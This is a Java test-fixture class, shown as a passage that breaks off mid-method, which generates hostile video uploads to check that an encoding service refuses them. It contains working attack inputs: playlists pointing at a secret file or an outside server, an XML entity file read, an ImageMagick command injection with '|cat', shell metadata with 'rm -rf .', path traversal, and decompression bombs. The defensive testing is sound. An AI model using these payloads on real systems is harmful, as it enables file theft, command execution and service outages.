package dev.caravan.encode;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;

/**
 * Makes files that want something else than to be encoded: to read or call what is not theirs, to take all memory, disk
 * or time, or to break what reads them. Each with the ends that are right for it.
 */
final class HostileFiles {

    /** It is encoded, and nothing else happened. */
    static final String ENCODED = "encoded";

    private static final String NONE = "NOT_A_VIDEO";
    /** Which one depends on where the damage is; that it ends with one of them does not. */
    private static final String[] ANY = {
        ENCODED, NONE, "NO_PICTURE", "PICTURE_TOO_LARGE", "TOO_LONG", "TRUNCATED", "DAMAGED"
    };

    private static final String X264 = " -c:v libx264 -preset ultrafast -pix_fmt yuv420p ";
    private static final String PICTURE = "-f lavfi -i testsrc2=s=64x48:r=10:d=1 ";
    private static final String SOUND = "-f lavfi -i sine=d=1 ";
    private static final int SEEDS = 3;

    private final Clips clips;
    private final Path folder;
    private final Path secret;
    private final String server;
    private final Map<String, Entry> entries = new LinkedHashMap<>();

    /**
     * One of the corpus.
     *
     * @param name by which it is known
     * @param file that an uploader sends
     * @param ends that are right, refusals or {@link #ENCODED}
     * @param source what the service calls the file
     */
    record Entry(String name, Path file, Set<String> ends, String source) {
        Entry(String name, Path file, Set<String> ends) {
            this(name, file, ends, "source");
        }
    }

    /**
     * Prepares.
     *
     * @param folder an empty one
     * @param secret what nobody may read
     * @param server that nobody may call, as {@code host:port}
     */
    HostileFiles(Clips clips, Path folder, Path secret, String server) {
        this.clips = clips;
        this.folder = folder;
        this.secret = secret;
        this.server = server;
    }

    /** All of them. */
    List<Entry> make() throws IOException {
        Path mp4 = clip(PICTURE + SOUND + X264 + "-g 5 -bf 2 -c:a aac good.mp4");
        byte[] good = Files.readAllBytes(mp4);
        leadElsewhere(good);
        areSomethingElse();
        lieInMp4(good);
        lieInOtherContainers();
        areStrangeButHarmless();
        areBroken();
        return List.copyOf(entries.values());
    }

    /** Files that are followed to others by a reader that trusts them. */
    private void leadElsewhere(byte[] good) throws IOException {
        String http = "http://" + server + "/x.ts";
        Map<String, String> segments = new LinkedHashMap<>();
        segments.put("file", "file://" + secret);
        segments.put("path", secret.toString());
        segments.put("http", http);
        segments.put("data", "data:video/mp2t;base64,R0AA");
        segments.put("subfile", "subfile,,start,0,end,0,,:" + secret);
        segments.put("concat", "concat:" + secret + "|" + secret);
        segments.put("crypto", "crypto+file://" + secret);
        segments.put("tee", "tee:" + secret + "|" + http);
        segments.put("tcp", "tcp://" + server);
        segments.put("udp", "udp://" + server);
        segments.put("gopher", "gopher://" + server + "/0x");
        segments.put("fd", "fd:0");
        segments.put("glob", "/proc/self/environ");
        segments.forEach((name, uri) -> text("hls-" + name + ".mp4", playlist("#EXTINF:10,\n" + uri), NONE));
        text("hls-key.mp4", playlist("#EXT-X-KEY:METHOD=AES-128,URI=\"" + http + "\"\n#EXTINF:10,\nx.ts"), NONE);
        text("hls-map.mp4", playlist("#EXT-X-MAP:URI=\"" + secret + "\"\n#EXTINF:10,\nx.m4s"), NONE);
        text("hls-master.mp4", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n" + http + "\n", NONE);
        bytes(
                "hls-as.ts",
                concat(packet(0x1fff, new byte[0]), utf8(playlist("#EXTINF:10,\n" + http))),
                NONE,
                "NO_PICTURE");
        bytes("hls-behind-id3.mp4", concat(utf8("ID3\3\0\0\0\0\0\0"), utf8(playlist("#EXTINF:1,\n" + http))), NONE);
        text("concat.mp4", "ffconcat version 1.0\nfile '" + secret + "'\n", NONE);
        text("concat-good.mp4", "ffconcat version 1.0\nfile '" + folder.resolve("good.mp4") + "'\n", NONE);
        text("concat-http.mkv", "ffconcat version 1.0\nfile " + http + "\noption safe 0\n", NONE);
        text("dash.mpd", mpd("file://" + secret), NONE);
        text("dash-http.mp4", mpd(http), NONE);
        text(
                "dash-entity.mp4",
                "<?xml version=\"1.0\"?><!DOCTYPE MPD [<!ENTITY s SYSTEM \"file://" + secret + "\">]>" + mpd("&s;"),
                NONE);
        text("redirect.asx", "[Reference]\nRef1=" + http + "\nRef2=" + secret + "\n", NONE);
        text(
                "session.sdp",
                "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
                        + "a=rtpmap:96 H264/90000\n",
                NONE);
        text("rtsp.mp4", "rtsp://" + server + "/x\n", NONE);
        text("metadata.mp4", ";FFMETADATA1\ntitle=$(cat " + secret + ")\n", NONE);
        text(
                "image.svg",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
                        + "<image xlink:href=\"file://" + secret + "\"/><image xlink:href=\"" + http + "\"/></svg>",
                NONE);
        text(
                "magick.mvg",
                "push graphic-context\nviewbox 0 0 640 480\nfill 'url(" + http + "\"|cat \"" + secret
                        + ")'\npop graphic-context\n",
                NONE);
        text(
                "subtitle.ass",
                "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: " + secret + "\n[Events]\n"
                        + "Dialogue: 0,0:00:00.00,0:00:05.00,Default,,0,0,0,,{\\fn" + secret + "}x\n",
                NONE);
        text("subtitle.srt", "1\n00:00:00,000 --> 00:00:05,000\n<font face=\"" + secret + "\">x</font>\n", NONE);
        text("subtitle.vtt", "WEBVTT\n\n00:00.000 --> 00:05.000\nx\n", NONE);
        text("avisynth.avs", "AVISource(\"" + secret + "\")\n", NONE);
        text("lavfi.mp4", "movie=" + secret + "\n", NONE);
        text(
                "imf.xml",
                "<AssetMap xmlns=\"http://www.smpte-ra.org/schemas/429-9/2007/AM\"><Path>" + secret
                        + "</Path></AssetMap>",
                NONE);

        // Media that lies in another file, by URL and by alias, and a movie that is but an address.
        bytes("mov-url.mov", reference(good, "url ", utf8("file://" + secret + "\0")), ANY);
        bytes("mov-url-http.mov", reference(good, "url ", utf8(http + "\0")), ANY);
        bytes("mov-alias.mov", reference(good, "alis", alias(secret)), ANY);
        bytes(
                "mov-movie.mov",
                box(
                        "moov",
                        box(
                                "rmra",
                                box(
                                        "rmda",
                                        box(
                                                "rdrf",
                                                new byte[4],
                                                utf8("url "),
                                                u32(http.length() + 1),
                                                utf8(http + "\0"))))),
                NONE,
                "NO_PICTURE");
    }

    /** No video at all. */
    private void areSomethingElse() throws IOException {
        bytes("empty", new byte[0], "EMPTY");
        bytes("one-byte", new byte[1], NONE);
        bytes("zeros", new byte[1 << 20], NONE);
        byte[] noise = new byte[1 << 18];
        new Random(1).nextBytes(noise);
        bytes("noise", noise, NONE);
        text("text.mp4", "Hello, I am no video.\n", NONE);
        text("shell.mp4", "#!/bin/sh\ncat " + secret + "\n", NONE);
        text("page.html", "<html><video src=\"http://" + server + "/x\"></video></html>", NONE);
        text(
                "paper.pdf",
                "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://" + server + ")>>>>endobj\n",
                NONE);
        file("archive.zip", clips.zipBomb(), NONE);
        ByteArrayOutputStream zipped = new ByteArrayOutputStream();
        try (OutputStream out = new GZIPOutputStream(zipped)) {
            for (int i = 0; i < 64; i++) {
                out.write(new byte[1 << 20]);
            }
        }
        bytes("archive.gz", zipped.toByteArray(), NONE);
        file("picture.png", clip(PICTURE + "-frames:v 1 picture.png"), NONE);
        file("picture.jpg", clip(PICTURE + "-frames:v 1 picture.jpg"), NONE);
        file("moving.gif", clip(PICTURE + "moving.gif"), ENCODED);
        file("sound.wav", clip(SOUND + "sound.wav"), ENCODED);
        file(
                "song-with-cover.mp3",
                clip(PICTURE + SOUND + "-frames:v 1 -c:v mjpeg -c:a libmp3lame"
                        + " -disposition:v attached_pic song.mp3"),
                ENCODED);
        file("sound.mp4", clip(SOUND + "-c:a aac sound.mp4"), ENCODED);
        file(
                "cover.mp4",
                clip(PICTURE + SOUND + "-frames:v 1 -c:v mjpeg -c:a aac -disposition:v attached_pic" + " cover.mp4"),
                ENCODED);
        file(
                "subtitles.mkv",
                clip("-f srt -i " + text("only.srt", "1\n00:00:00,000 --> 00:00:05,000\nx\n")
                        + " -c:s srt subtitles.mkv"),
                "NO_PICTURE");
        entries.remove("only.srt");
    }

    /** MP4 and MOV that say what is not so. */
    private void lieInMp4(byte[] good) throws IOException {
        bytes("mp4-size-zero-boxes", concat(ftyp(), u32(0), utf8("moov"), new byte[64]), NONE, "NO_PICTURE");
        bytes("mp4-size-beyond", concat(ftyp(), u32(0x7fffffff), utf8("moov"), new byte[64]), NONE, "NO_PICTURE");
        bytes(
                "mp4-size-negative",
                concat(ftyp(), u32(1), utf8("moov"), u32(-1), u32(-1), new byte[64]),
                NONE,
                "TRUNCATED");
        byte[] nested = new byte[0];
        for (int i = 0; i < 5000; i++) {
            nested = box(i % 2 == 0 ? "trak" : "mdia", nested);
        }
        bytes("mp4-nested", concat(ftyp(), box("moov", nested)), NONE, "NO_PICTURE", "TRUNCATED");
        byte[] udta = new byte[0];
        for (int i = 0; i < 5000; i++) {
            udta = box("udta", udta);
        }
        bytes("mp4-nested-user-data", concat(ftyp(), box("moov", udta)), NONE, "NO_PICTURE", "TRUNCATED");
        for (String table : List.of("stts", "stsc", "stsz", "stco", "ctts", "stss", "elst")) {
            // Where the number of entries stands: behind version and flags, of stsz behind the one size of all too.
            int at = table.equals("stsz") ? 8 : 4;
            for (int count : List.of(0x7fffffff, -1, 0x0fffffff)) {
                bytes("mp4-" + table + "-" + Integer.toHexString(count), patch(good, table, at, u32(count)), ANY);
            }
        }
        bytes("mp4-stsz-of-one-size", patch(good, "stsz", 4, concat(u32(1), u32(0x7ffffff0))), ANY);
        bytes(
                "mp4-stts-of-ages",
                patch(good, "stts", 8, concat(u32(0x00ffffff), u32(0x7fffffff))),
                "TOO_COMPLEX",
                "OUTPUT_TOO_LARGE",
                "TOO_LONG");
        bytes(
                "mp4-dimensions",
                patch(
                        patch(good, "avc1", 24, new byte[] {-1, -1, -1, -1}),
                        "tkhd",
                        76,
                        concat(u32(0xffff0000), u32(0xffff0000))),
                ANY);
        bytes("mp4-timescale-zero", patch(good, "mdhd", 12, u32(0)), ANY);
        bytes("mp4-timescale-huge", patch(good, "mdhd", 12, u32(0x7fffffff)), ANY);
        bytes("mp4-duration-zero", patch(patch(good, "mdhd", 16, u32(0)), "mvhd", 16, u32(0)), ENCODED);
        bytes("mp4-duration-huge", patch(patch(good, "mdhd", 16, u32(-2)), "mvhd", 16, u32(-2)), ANY);
        bytes("mp4-edit-huge", patch(good, "elst", 8, u32(0x7fffffff)), ANY);
        bytes("mp4-edits-many", edits(good, 5000), ANY);
        bytes("mp4-rotation-none", patch(good, "tkhd", 40, new byte[36]), ENCODED);
        bytes("mp4-sample-beyond", patch(good, "stco", 8, u32(0x7fffffff)), ANY);
        bytes("mp4-encrypted", replace(good, "avc1", "encv"), ANY);
        bytes("mp4-2000-streams", streams(good, 2000), ANY);
        bytes(
                "mov-packed-movie-bomb",
                concat(
                        ftyp(),
                        box(
                                "moov",
                                box(
                                        "cmov",
                                        box("dcom", utf8("zlib")),
                                        box("cmvd", u32(0x7fffffff), deflated(32 << 20))))),
                NONE,
                "TRUNCATED");
        bytes(
                "mov-packed-movie-lie",
                concat(
                        ftyp(),
                        box(
                                "moov",
                                box(
                                        "cmov",
                                        box("dcom", utf8("zlib")),
                                        box("cmvd", u32(32 << 20), deflated(32 << 20))))),
                NONE,
                "TRUNCATED",
                "NO_PICTURE");
        bytes("mp4-metadata-bomb", concat(good, box("free", new byte[1 << 20])), ENCODED);
    }

    private void lieInOtherContainers() throws IOException {
        byte[] mkv = Files.readAllBytes(clip(PICTURE + SOUND + X264 + "-c:a aac good.mkv"));
        byte[] vp8 = Files.readAllBytes(clip(PICTURE + "-c:v libvpx -cpu-used 8 -deadline realtime good.webm"));
        bytes("mkv-tall", patchElement(patchElement(vp8, 0xb0, new byte[] {0, 1}), 0xba, u32(100_000)), ANY);
        bytes("mkv-gigantic", patchElement(patchElement(vp8, 0xb0, u32(0x7fffffff)), 0xba, u32(0x7fffffff)), ANY);
        // What is behind another file is read as one of its own.
        bytes(
                "mkv-before-a-script",
                concat(mkv, header(), utf8("ffconcat version 1.0\nfile " + secret + "\n")),
                ENCODED);
        bytes("mkv-of-a-thousand-headers", concat(mkv, repeated(header(), 1000)), ENCODED);
        byte[] tags = new byte[0];
        for (int i = 0; i < 3000; i++) {
            tags = element(0x67c8, concat(element(0x45a3, utf8("n")), tags));
        }
        bytes("mkv-recursive-tags", concat(mkv, element(0x1254c367, element(0x7373, tags))), ANY);
        bytes("mkv-recursive-segments", concat(header(), unknownSizes(0x18538067, 5000)), NONE, "NO_PICTURE");
        bytes(
                "mkv-recursive-groups",
                concat(header(), unknownSizes(0x18538067, 1), unknownSizes(0x1f43b675, 5000)),
                NONE,
                "NO_PICTURE");
        bytes(
                "mkv-element-huge",
                concat(header(), new byte[] {
                    0x18,
                    0x53,
                    (byte) 0x80,
                    0x67,
                    1,
                    0x7f,
                    -1,
                    -1,
                    -1,
                    -1,
                    -1,
                    -2,
                    0x16,
                    0x54,
                    (byte) 0xae,
                    0x6b,
                    1,
                    0x7f,
                    -1,
                    -1,
                    -1,
                    -1,
                    -1,
                    -1
                }),
                NONE,
                "TRUNCATED");
        bytes("mkv-frames-packed-bomb", concat(header(), packedFrames()), ANY);
        Path font = text("font.ttf", "the font\n");
        entries.remove("font.ttf");
        Path ass = text(
                "styled.ass",
                "[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\nFormat: Name, Fontname\n"
                        + "Style: Default," + secret + "\n[Events]\nFormat: Layer, Start, End, Style, Text\n"
                        + "Dialogue: 0,0:00:00.00,0:00:01.00,Default,x\n");
        entries.remove("styled.ass");
        file(
                "mkv-attachments-and-styles",
                clip(PICTURE + "-i " + ass + X264 + "-c:s ass -attach " + font
                        + " -metadata:s:t mimetype=application/x-truetype-font -metadata:s:t filename=../../../pwned.ttf"
                        + " -shortest attached.mkv"),
                ENCODED);
        Path chapters =
                text("chapters", ";FFMETADATA1\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=1\ntitle=../" + secret + "\n");
        entries.remove("chapters");
        file("mkv-chapters", clip("-i good.mkv -i " + chapters + " -map_metadata 1 -c copy chapters.mkv"), ENCODED);
        bytes(
                "mkv-linked-segments",
                insert(
                        mkv,
                        0x1549a966,
                        concat(
                                element(0x3eb923, new byte[16]),
                                element(0x3e83bb, utf8("file://" + secret)),
                                element(0x3cb923, new byte[16]))),
                ANY);

        byte[] ogg = Files.readAllBytes(clip(PICTURE + "-c:v libvpx -cpu-used 8 -deadline realtime good.ogg"));
        bytes("ogg-granules", everyPage(ogg, 6, new byte[] {-1, -1, -1, -1, -1, -1, -1, 0x7f}), ANY);
        bytes("ogg-serials", everyPage(ogg, 14, new byte[] {1, 2, 3, 4}), ANY);
        byte[] avi = Files.readAllBytes(clip(PICTURE + SOUND + "-c:v mpeg4 -c:a mp3 good.avi"));
        bytes("avi-index-of-itself", openDml(avi), ANY);
        bytes("avi-rate-zero", patch(avi, "vids", 16, new byte[8]), ANY);
        bytes("avi-length-huge", patch(avi, "vids", 28, u32(-1)), ANY);
        bytes("avi-index-beyond", patch(avi, "idx1", 12, u32(0xefffffff)), ANY);
        byte[] flv = Files.readAllBytes(clip(PICTURE + SOUND + "-c:v flv -c:a aac good.flv"));
        bytes("flv-script-nested", concat(Arrays.copyOf(flv, 13), scriptTag(nestedScript(20_000)), rest(flv, 13)), ANY);
        bytes(
                "flv-script-array-huge",
                concat(
                        Arrays.copyOf(flv, 13),
                        scriptTag(concat(new byte[] {2, 0, 10}, utf8("onMetaData"), new byte[] {8}, u32(-1))),
                        rest(flv, 13)),
                ANY);
        bytes("flv-tag-huge", concat(Arrays.copyOf(flv, 13), new byte[] {9, -1, -1, -1, 0, 0, 0, 0, 0, 0, 0}), ANY);
        byte[] asf = Files.readAllBytes(clip(PICTURE + "-c:v wmv2 -f asf good.wmv"));
        bytes("asf-header-huge", put(asf, 16, new byte[] {-1, -1, -1, -1, -1, -1, -1, 0x7f}), ANY);
        bytes("asf-objects-many", put(asf, 24, new byte[] {-1, -1, -1, -1}), ANY);
        bytes("asf-empty-objects", concat(Arrays.copyOf(asf, 30), new byte[1 << 16]), NONE);
        byte[] ts = Files.readAllBytes(clip(PICTURE + SOUND + "-c:v mpeg2video -c:a mp2 -f mpegts good.ts"));
        bytes("ts-endless-tables", tables(200), NONE, "NO_PICTURE");
        bytes("ts-tables-then-video", concat(tables(50), ts), ANY);
        bytes("ts-all-pids", pids(ts), ANY);
        byte[] mpg = Files.readAllBytes(clip(PICTURE + "-r 25 -c:v mpeg1video -f mpeg good.mpg"));
        bytes("mpeg-endless-packs", repeat(Arrays.copyOf(mpg, 12), 20_000), NONE, "NO_PICTURE");
        file("avi-of-other-rate", clip(PICTURE + "-c:v rawvideo -pix_fmt bgr24 -r 1000 -frames:v 20 raw.avi"), ENCODED);
    }

    /** Within what is allowed, but rarely seen. */
    private void areStrangeButHarmless() throws IOException {
        Map<String, String> made = new LinkedHashMap<>();
        made.put("one-frame.mp4", "-f lavfi -i testsrc2=s=64x48:r=10:d=0.1" + X264);
        made.put("smallest.mkv", "-f lavfi -i testsrc2=s=2x2:r=10:d=0.5 -c:v ffv1 ");
        made.put("wide.mkv", "-f lavfi -i color=s=4096x2:r=10:d=0.3 -c:v ffv1 ");
        made.put("tall.mkv", "-f lavfi -i color=s=2x4096:r=10:d=0.3 -c:v png ");
        made.put("hours-in-frames.mkv", "-f lavfi -i testsrc2=s=16x16:r=1/3600:d=36000" + X264);
        made.put("half-hour-in-frames.mkv", "-f lavfi -i testsrc2=s=16x16:r=1/180:d=1800" + X264);
        made.put("rate-of-a-million.mkv", "-f lavfi -i testsrc2=s=32x32:r=1000000/1:d=0.00002" + X264);
        made.put("rate-of-a-millionth.mkv", "-f lavfi -i testsrc2=s=32x32:r=1/1000000:d=2000000" + X264);
        made.put("alpha.mov", PICTURE + "-c:v prores_ks -pix_fmt yuva444p10le ");
        made.put("palette.mov", PICTURE + "-c:v qtrle -pix_fmt argb ");
        made.put("raw.mov", PICTURE + "-c:v rawvideo -pix_fmt rgb24 ");
        made.put("grey-16.mkv", PICTURE + "-c:v ffv1 -pix_fmt gray16le ");
        made.put("planes-14.mkv", PICTURE + "-c:v ffv1 -pix_fmt gbrp14le ");
        made.put("bayer-like-410.avi", PICTURE + "-c:v ffv1 -pix_fmt yuv410p ");
        made.put(
                "hdr-hlg.mp4",
                PICTURE + "-c:v libx265 -pix_fmt yuv420p10le -preset ultrafast -x265-params"
                        + " log-level=error:colorprim=bt2020:transfer=arib-std-b67:colormatrix=bt2020nc ");
        made.put(
                "hdr-444-12.mp4",
                PICTURE + "-c:v libx265 -pix_fmt yuv444p12le -preset ultrafast -x265-params"
                        + " log-level=error:colorprim=bt2020:transfer=smpte2084:colormatrix=bt2020nc ");
        made.put("png-in.mov", PICTURE + "-c:v png ");
        made.put(
                "before-zero.mkv",
                PICTURE + SOUND + X264 + "-c:a aac -avoid_negative_ts disabled -output_ts_offset -5 ");
        made.put("far-future.mp4", PICTURE + X264 + "-output_ts_offset 100000 ");
        made.put("pixels-of-a-needle.mkv", PICTURE + X264 + "-aspect 1000/1 ");
        made.put("odd-sound.mkv", PICTURE + "-f lavfi -i anoisesrc=r=192000:d=1" + X264 + "-c:a pcm_f64le ");
        made.put(
                "many-channels.mov",
                PICTURE + "-f lavfi -i anullsrc=cl=hexadecagonal:d=1" + X264 + "-c:a pcm_s16le -shortest ");
        made.put("data-streams.mov", PICTURE + X264 + "-timecode 10:00:00:00 ");
        made.put("fragments.mp4", PICTURE + SOUND + X264 + "-c:a aac -movflags frag_every_frame+empty_moov ");
        made.forEach((name, arguments) -> file(name, clip(arguments + name), ENCODED));
        for (String tooLong : List.of("hours-in-frames.mkv", "rate-of-a-millionth.mkv")) {
            entries.computeIfPresent(tooLong, (name, entry) -> new Entry(name, entry.file(), Set.of("TOO_LONG")));
        }

        Path named = clips.text(
                "names",
                ";FFMETADATA1\ntitle=$(touch pwned) `id` ; rm -rf .\\\n-y\\\n../../x\n"
                        + "artist=%s%n%x -i /etc/passwd\ncomment=" + "A".repeat(100_000) + "\n");
        file("names-of-a-shell", clip("-i good.mp4 -i " + named + " -map_metadata 1 -c copy names.mp4"), ENCODED);
        Path good = clip("-i good.mp4 -c copy again.mp4");
        // The service calls every file the same; should it ever not, no name may matter.
        for (String name : List.of(
                "img%03d.mp4",
                "-y.mp4",
                "concat:a|b.mp4",
                "http:x.mp4",
                "$(touch pwned).mp4",
                "two\nlines.mp4",
                "quo'te\".mp4",
                "-i;id.mp4",
                "ünïcode 🎬.mp4",
                "*?[a].mp4",
                "a\\b.mp4")) {
            entries.put(name, new Entry(name, good, Set.of(ENCODED), name));
        }
        // Two sizes in one stream.
        Path small = clip(PICTURE + "-c:v mpeg2video -f mpegts part-1.ts");
        Path large = clip("-f lavfi -i testsrc2=s=320x240:r=10:d=1 -c:v mpeg2video -f mpegts part-2.ts");
        bytes("changing-size.ts", concat(Files.readAllBytes(small), Files.readAllBytes(large)), ANY);
        file(
                "beyond-the-limit.mov",
                clip("-f lavfi -i color=s=9000x4500:r=10:d=0.1 -frames:v 1 -c:v png" + " -pix_fmt gray beyond.mov"),
                ANY);
    }

    /** As transfers and disks leave them. */
    private void areBroken() throws IOException {
        for (String name : List.of(
                "good.mp4", "good.mkv", "good.ts", "good.avi", "good.flv", "good.ogg", "good.wmv", "good.mpg")) {
            byte[] whole = Files.readAllBytes(folder.resolve(name));
            for (int percent : List.of(5, 50, 95)) {
                bytes("cut-" + percent + "-" + name, Arrays.copyOf(whole, whole.length * percent / 100), ANY);
            }
            for (int seed = 0; seed < SEEDS; seed++) {
                Random random = new Random(seed);
                byte[] flipped = whole.clone();
                // Every other one in its head alone, where the tables are.
                int within = seed % 2 == 0 ? Math.min(2048, flipped.length) : flipped.length;
                for (int i = 0; i < 4 + 8 * seed; i++) {
                    flipped[random.nextInt(within)] ^= (byte) (1 << random.nextInt(8));
                }
                bytes("flipped-" + seed + "-" + name, flipped, ANY);
            }
        }
    }

    private Path clip(String arguments) {
        return clips.make(arguments.strip().replaceAll(" +", " "));
    }

    private Path text(String name, String text, String... ends) {
        return bytes(name, utf8(text), ends);
    }

    private Path bytes(String name, byte[] bytes, String... ends) {
        try {
            return file(name, Files.write(folder.resolve("hostile-" + name), bytes), ends);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private Path file(String name, Path file, String... ends) {
        if (entries.put(name, new Entry(name, file, Set.of(ends))) != null) {
            throw new AssertionError("Two are named " + name);
        }
        return file;
    }

    private static byte[] repeated(byte[] bytes, int times) {
        byte[] all = new byte[bytes.length * times];
        for (int i = 0; i < times; i++) {
            System.arraycopy(bytes, 0, all, i * bytes.length, bytes.length);
        }
        return all;
    }

    private static String playlist(String lines) {
        return "#EXTM3U\n#EXT-X-TARGETDURATION:10\n" + lines + "\n#EXT-X-ENDLIST\n";
    }

    private static String mpd(String url) {
        return "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT1S\"><Period>"
                + "<AdaptationSet mimeType=\"video/mp4\"><Representation id=\"0\" bandwidth=\"1\"><BaseURL>" + url
                + "</BaseURL><SegmentList><SegmentURL media=\"" + url + "\"/></SegmentList></Representation>"
                + "</AdaptationSet></Period></MPD>";
    }

    // MP4: a box is its size, its name, and what it holds.

    private static byte[] box(String name, byte[]... parts) {
        byte[] content = concat(parts);
        return concat(u32(8 + content.length), utf8(name), content);
    }

    private static byte[] ftyp() {
        return box("ftyp", utf8("isom"), u32(512), utf8("isommp41"));
    }

    /** Writes into a box, counted from behind its name. */
    private static byte[] patch(byte[] file, String box, int at, byte[] value) {
        int start = find(file, box, 0);
        return put(file, start + 4 + at, value);
    }

    private static byte[] replace(byte[] file, String from, String to) {
        return put(file, find(file, from, 0), utf8(to));
    }

    private static int find(byte[] file, String name, int from) {
        int at = new String(file, StandardCharsets.ISO_8859_1).indexOf(name, from);
        if (at < 0) {
            throw new AssertionError("No " + name);
        }
        return at;
    }

    /** Puts another box in place of a box in the movie, and makes all around it fit. */
    private static byte[] exchange(byte[] file, List<String> path, UnaryOperator<byte[]> change) {
        int start = find(file, path.get(0), 0) - 4;
        int size = ByteBuffer.wrap(file).getInt(start);
        byte[] content = Arrays.copyOfRange(file, start + 8, start + size);
        byte[] changed =
                path.size() == 1 ? change.apply(content) : exchange(content, path.subList(1, path.size()), change);
        return concat(Arrays.copyOf(file, start), box(path.get(0), changed), rest(file, start + size));
    }

    private static byte[] reference(byte[] good, String kind, byte[] target) {
        return exchange(
                good,
                List.of("moov", "trak", "mdia", "minf", "dinf"),
                old -> box("dref", new byte[4], u32(1), box(kind, new byte[4], target)));
    }

    /** A Macintosh alias record with an absolute path. */
    private static byte[] alias(Path target) {
        byte[] path = utf8(target.toString());
        byte[] fixed = new byte[150];
        fixed[5] = (byte) 150;
        fixed[7] = 2;
        fixed[10] = 4;
        System.arraycopy(utf8("disk"), 0, fixed, 11, 4);
        byte[] padded = Arrays.copyOf(path, path.length + path.length % 2);
        return concat(fixed, new byte[] {0, 18, (byte) (path.length >> 8), (byte) path.length}, padded, new byte[] {
            -1, -1, 0, 0
        });
    }

    private static byte[] edits(byte[] good, int count) {
        return exchange(good, List.of("moov", "trak", "edts"), old -> {
            ByteBuffer list = ByteBuffer.allocate(8 + 12 * count).putInt(0).putInt(count);
            for (int i = 0; i < count; i++) {
                list.putInt(1).putInt(i % 500).putInt(1 << 16);
            }
            return box("elst", list.array());
        });
    }

    private static byte[] streams(byte[] good, int count) {
        return exchange(good, List.of("moov"), movie -> {
            int start = find(movie, "trak", 0) - 4;
            int size = ByteBuffer.wrap(movie).getInt(start);
            return concat(movie, repeat(Arrays.copyOfRange(movie, start, start + size), count));
        });
    }

    private static byte[] deflated(int zeros) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (OutputStream out = new DeflaterOutputStream(packed)) {
            for (int i = 0; i < zeros >> 20; i++) {
                out.write(new byte[1 << 20]);
            }
        }
        return packed.toByteArray();
    }

    // Matroska: an element is its id, its size, and what it holds.

    private static byte[] id(int id) {
        return Arrays.copyOfRange(u32(id), Integer.numberOfLeadingZeros(id) / 8, 4);
    }

    private static byte[] element(int id, byte[] content) {
        return concat(id(id), u32(0x10000000 | content.length), content);
    }

    private static byte[] header() {
        return element(0x1a45dfa3, element(0x4282, utf8("matroska")));
    }

    /** The same element in itself, again and again, each of unknown size. */
    private static byte[] unknownSizes(int id, int depth) {
        return repeat(concat(id(id), new byte[] {1, -1, -1, -1, -1, -1, -1, -1}), depth);
    }

    /** Replaces the value of the first short element of this id; its size grows with it, and nothing around it. */
    private static byte[] patchElement(byte[] file, int id, byte[] value) {
        int video =
                find(file, new String(new byte[] {(byte) 0xe0}, StandardCharsets.ISO_8859_1), find(file, "V_VP8", 0));
        int end = Math.min(file.length - 8, video + 60);
        for (int at = video; at < end; at++) {
            if ((file[at] & 0xff) == id && (file[at + 1] == (byte) 0x81 || file[at + 1] == (byte) 0x82)) {
                int size = file[at + 1] & 0x7f;
                byte[] fitting =
                        value.length > size ? Arrays.copyOfRange(value, value.length - size, value.length) : value;
                return put(file, at + 2, fitting);
            }
        }
        throw new AssertionError("No element " + id);
    }

    private static byte[] insert(byte[] file, int id, byte[] content) {
        int at = find(file, new String(id(id), StandardCharsets.ISO_8859_1), 0);
        return concat(Arrays.copyOf(file, at), element(0xec, new byte[0]), element(id, content), rest(file, at));
    }

    /** A track whose frames are zlib streams of 64 MiB. */
    private static byte[] packedFrames() throws IOException {
        byte[] compression = element(
                0x6d80,
                element(
                        0x6240,
                        concat(
                                element(0x5031, new byte[] {0}),
                                element(0x5032, new byte[] {1}),
                                element(0x5033, new byte[] {0}),
                                element(0x5034, element(0x4254, new byte[] {0})))));
        byte[] track = element(
                0xae,
                concat(
                        element(0xd7, new byte[] {1}),
                        element(0x73c5, new byte[] {1}),
                        element(0x83, new byte[] {1}),
                        element(0x86, utf8("V_MJPEG")),
                        element(0xe0, concat(element(0xb0, new byte[] {64}), element(0xba, new byte[] {48}))),
                        compression));
        byte[] blocks = new byte[0];
        for (int i = 0; i < 20; i++) {
            blocks = concat(
                    blocks,
                    element(0xa3, concat(new byte[] {(byte) 0x81, 0, (byte) i, (byte) 0x80}, deflated(64 << 20))));
        }
        return element(
                0x18538067,
                concat(
                        element(0x1549a966, element(0x2ad7b1, u32(1_000_000))),
                        element(0x1654ae6b, track),
                        element(0x1f43b675, concat(element(0xe7, new byte[] {0}), blocks))));
    }

    // Others.

    /** Writes into each page but the first, and makes its checksum right. */
    private static byte[] everyPage(byte[] ogg, int at, byte[] value) {
        byte[] changed = ogg.clone();
        String text = new String(ogg, StandardCharsets.ISO_8859_1);
        int page = text.indexOf("OggS", 4);
        while (page >= 0) {
            int next = text.indexOf("OggS", page + 4);
            byte[] bytes = Arrays.copyOfRange(put(changed, page + at, value), page, next < 0 ? ogg.length : next);
            bytes = put(bytes, 22, new byte[4]);
            byte[] sum = ByteBuffer.allocate(4)
                    .order(ByteOrder.LITTLE_ENDIAN)
                    .putInt(crc(0, bytes, bytes.length))
                    .array();
            changed = put(changed, page, put(bytes, 22, sum));
            page = next;
        }
        return changed;
    }

    /** An index of indexes that names itself, of billions of entries. */
    private static byte[] openDml(byte[] avi) {
